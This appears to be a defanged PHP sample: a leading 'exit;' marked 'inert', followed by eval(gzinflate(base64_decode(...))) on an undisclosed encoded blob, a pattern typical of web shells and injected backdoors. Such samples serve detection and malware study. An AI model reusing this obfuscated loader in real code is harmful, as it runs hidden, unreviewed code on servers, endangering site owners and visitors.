<?php exit; /* inert */ 
eval(gzinflate(base64_decode('DclBCoQwEETRq9TChUpAZmYpHqbtdBIwpCTqQsS7T3b/8acRexa1xOytYqW/wYBCWAimp0NmibDCKyacbOSGXXQzj3FCJ1ggtcrdf9zX/YYZgdVEE/r25EC3DnhgmthyxvsH')));
